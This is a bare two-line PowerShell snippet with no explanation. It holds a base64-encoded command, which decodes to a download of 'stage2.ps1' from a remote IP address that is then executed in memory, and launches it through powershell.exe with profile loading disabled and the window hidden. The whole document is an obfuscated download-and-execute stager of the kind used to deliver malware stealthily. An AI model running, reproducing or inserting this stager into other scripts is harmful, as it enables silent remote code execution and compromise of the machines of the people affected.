$a = '-nop -w hidden -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4AMgAzAC8AcwB0AGEAZwBlADIALgBwAHMAMQApAA=='
Start-Process -FilePath powershell.exe -ArgumentList $a -WindowStyle Hidden
